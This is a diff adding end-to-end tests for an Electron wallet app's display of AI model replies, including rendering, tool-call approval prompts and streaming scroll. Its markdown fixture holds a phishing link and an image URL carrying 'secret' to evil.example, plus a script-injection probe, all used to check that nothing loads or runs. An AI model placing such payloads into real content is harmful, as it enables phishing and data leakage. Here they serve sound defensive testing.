@@ -1,0 +1,213 @@
+import { join } from 'node:path';
+import type { Page } from 'playwright-core';
+import { expect, it } from 'vitest';
+import type { Content } from '../../src/main/requests/messages.ts';
+import { openStore } from '../../src/main/store/open-store.ts';
+import { pieceChannel } from '../../src/shared/ipc/channel-names.ts';
+import type { Piece, ReplyBlock, ReplyTool } from '../../src/shared/ipc/reply-view.ts';
+import { appWithWallet } from '../support/app-with-wallet.ts';
+import { axeFindings } from '../support/axe.ts';
+import { launchApp, type RunningApp } from '../support/electron-app.ts';
+import { keepPicture } from '../support/keep-picture.ts';
+
+const faultless = { dark: [], light: [] };
+const model = 'claude-sonnet-5-5';
+const stranger = '0x70997970C51812dc3A010C7d01b50e0d17dc79C8';
+
+type Reply = Extract<Content, { kind: 'reply' }>;
+
+const markdown = `## What you hold
+
+You hold **2 ETH** and *some* USDC; ~~DAI~~ none. The largest is \`ETH\`, at ${stranger}.
+
+1. Swap half of it
+2. Keep the rest
+   - in the [vault](https://evil.example/phish?x=1)
+
+- [x] balance read
+- [ ] price read
+
+| token | amount |
+|-------|-------:|
+| ETH   | 2      |
+| USDC  | 1,250.50 |
+
+> Prices move while you read.
+
+\`\`\`sh
+countersign plan "swap 1 ETH for USDC"
+\`\`\`
+
+![a chart](https://evil.example/chart.png?q=secret) <img src="https://evil.example/x.png"> <script>alert(1)</script>`;
+
+const words = (text: string): ReplyBlock => ({ type: 'text', text });
+
+function call(overrides: Partial<ReplyTool> = {}): ReplyTool {
+  return {
+    ...{ type: 'tool', callId: 'c1', name: 'get_balance', title: 'Look up a balance' },
+    ...{ state: 'done', asks: null, origin: 'chain', durationMs: 420 },
+    ...{ input: '{\n  "token": "ETH"\n}', result: 'ETH: 2 (Main account)' },
+    ...overrides,
+  };
+}
+
+function reply(overrides: Partial<Reply>): Reply {
+  return { kind: 'reply', model, state: 'done', blocks: [], ...overrides };
+}
+
+const use = { model, inputTokens: 1200, outputTokens: 84, costUsd: '0.0049' };
+
+/** A home in which somebody has talked with a model; ids of the replies in their order. */
+async function homeWith(replies: readonly Reply[]): Promise<{ home: string; ids: string[] }> {
+  const { app } = await appWithWallet();
+  await app.stop();
+  const store = openStore({ path: join(app.dataDir, 'countersign.sqlite'), clock: Date });
+  const { conversations } = store.writer;
+  const conversationId = conversations.create('What do I hold');
+  let parentId: string | null = null;
+  const add = (role: 'user' | 'assistant', content: Content) => {
+    parentId = conversations.addMessage({ conversationId, parentId, role, content });
+    return parentId;
+  };
+  const ids = replies.map((content, index) => {
+    add('user', { kind: 'user', text: `What do I hold, for the ${index + 1}. time?` });
+    return add('assistant', content);
+  });
+  store.stop();
+  return { home: app.home, ids };
+}
+
+async function openedOn(home: string): Promise<{ app: RunningApp; page: Page }> {
+  const app = await launchApp({ home });
+  const page = await app.page('app');
+  await page.getByRole('log', { name: 'Messages' }).waitFor();
+  return { app, page };
+}
+
+it('what a model wrote is drawn without following a link, loading a picture or running a script', async () => {
+  const { home } = await homeWith([
+    reply({ blocks: [words('One look first.'), call(), words(markdown)], use }),
+  ]);
+  const { app, page } = await openedOn(home);
+  const answer = page.getByRole('article', { name: `Answer of ${model}` });
+  await answer.getByRole('table').waitFor();
+  expect(await answer.locator('a, img, script').count()).toBe(0);
+  await answer.getByText('https://evil.example/phish?x=1').waitFor();
+  await answer.getByText('Picture, not loaded: a chart').waitFor();
+  await answer.getByText('<script>alert(1)</script>').waitFor();
+  await answer.getByText(stranger).waitFor();
+  await page.getByText(`Written by ${model}: 1,284 tokens, $0.0049`).waitFor();
+  await keepPicture('reply-markdown', page);
+  await answer.getByRole('button', { name: 'Copy code' }).click();
+  await answer.getByText('The code is copied').waitFor();
+  const copied = await app.electron.evaluate(({ clipboard }) => clipboard.readText());
+  expect(copied).toBe('countersign plan "swap 1 ETH for USDC"');
+  await answer.getByText('Look up a balance').click();
+  await answer.getByText('ETH: 2 (Main account)').waitFor();
+  expect(await axeFindings(page)).toEqual(faultless);
+  await keepPicture('reply-call-open', page);
+  await app.stop();
+});
+
+it('how a reply ended is said with what had happened and the ways on, and a call waits for a yes', async () => {
+  const asks = 'May the server notes be asked to search for this?';
+  const error = (code: string, message: string, advice: string) => ({
+    ...{ code, class: 'network' as const, message, advice, facts: {} },
+  });
+  const { home } = await homeWith([
+    reply({
+      state: 'stopped',
+      blocks: [words('I look it up.'), call()],
+      use: { ...use, isWhole: false },
+    }),
+    reply({
+      ...{ state: 'cut', blocks: [words('You hold 2')], about: 'What do I hold?' },
+      error: error('MODEL_BROKE_OFF', 'The answer broke off.', 'Ask again.'),
+    }),
+    reply({
+      state: 'waiting',
+      blocks: [
+        words('Your notes may know.'),
+        call({
+          ...{
+            callId: 'c2',
+            name: 'notes__search',
+            title: 'notes: search',
+            state: 'waiting',
+            asks,
+          },
+          ...{ result: '', origin: 'mcp', durationMs: null, input: '{\n  "query": "ETH"\n}' },
+        }),
+      ],
+    }),
+  ]);
+  const { app, page } = await openedOn(home);
+  await page.getByText('You stopped it.').waitFor();
+  await page.getByText('It had looked something up once, which changes nothing.').waitFor();
+  await page.getByText(`Written by ${model}: at least 1,284 tokens, $0.0049`).waitFor();
+  await page.getByText('The answer broke off.').waitFor();
+  await page.getByRole('button', { name: 'Ask again' }).waitFor();
+  await keepPicture('reply-ends', page);
+  await page.getByRole('button', { name: 'Say it in other words' }).first().click();
+  const box = page.getByRole('textbox', { name: 'Message' });
+  expect(await box.inputValue()).toBe('What do I hold, for the 1. time?');
+  expect(await box.evaluate((element) => element === document.activeElement)).toBe(true);
+  expect(await axeFindings(page)).toEqual(faultless);
+  const question = page.getByRole('region', { name: asks });
+  await question.getByText('"query": "ETH"').waitFor();
+  await question.getByRole('button', { name: 'Allow once' }).waitFor();
+  await question.getByRole('button', { name: 'Not now' }).waitFor();
+  await app.stop();
+});
+
+it('text that is written grows where it stands, and who went up is not pulled down by it', async () => {
+  const { home, ids } = await homeWith([
+    reply({ blocks: [words('A long one.\n\n'.repeat(60))] }),
+    reply({ state: 'streaming', blocks: [words('You hold')] }),
+  ]);
+  const { app, page } = await openedOn(home);
+  const messageId = ids[1] ?? '';
+  let seq = 'You hold'.length;
+  const push = async (text: string) => {
+    await send(app, { conversationId: '', messageId, block: 0, seq, text });
+    seq += text.length;
+  };
+  const answer = page.getByRole('article', { name: `Answer of ${model}` }).last();
+  await answer.getByText(`${model} is writing.`).waitFor();
+  await push(' **2 E');
+  await answer.getByText('You hold **2 E', { exact: true }).waitFor();
+  await push('TH**.\n\nAnd ');
+  await answer.locator('strong', { hasText: '2 ETH' }).waitFor();
+  await push(`so on.\n\n${'One more.\n\n'.repeat(40)}The end.`);
+  await answer.getByText('The end.').waitFor();
+  const log = page.getByRole('log', { name: 'Messages' });
+  const below = () =>
+    log.evaluate((pane) => Math.round(pane.scrollHeight - pane.scrollTop - pane.clientHeight));
+  await expect.poll(below).toBeLessThan(4);
+  await keepPicture('reply-streaming', page);
+  expect(await axeFindings(page)).toEqual(faultless);
+
+  await log.hover();
+  await page.mouse.wheel(0, -60);
+  const newest = page.getByRole('button', { name: 'To the newest' });
+  await newest.waitFor();
+  const top = await log.evaluate((pane) => pane.scrollTop);
+  await push(`\n\n${'Still more.\n\n'.repeat(40)}Really the end.`);
+  await answer.getByText('Really the end.').waitFor({ state: 'attached' });
+  expect(await log.evaluate((pane) => pane.scrollTop)).toBe(top);
+  await keepPicture('reply-to-newest', page);
+  await newest.click();
+  await expect.poll(below).toBeLessThan(4);
+  await newest.waitFor({ state: 'detached' });
+  await app.stop();
+});
+
+/** As main does when a model writes. */
+async function send(app: RunningApp, piece: Piece): Promise<void> {
+  await app.electron.evaluate(
+    ({ BrowserWindow }, [channel, pushed]) => {
+      for (const window of BrowserWindow.getAllWindows()) window.webContents.send(channel, pushed);
+    },
+    [pieceChannel, piece] as const,
+  );
+}
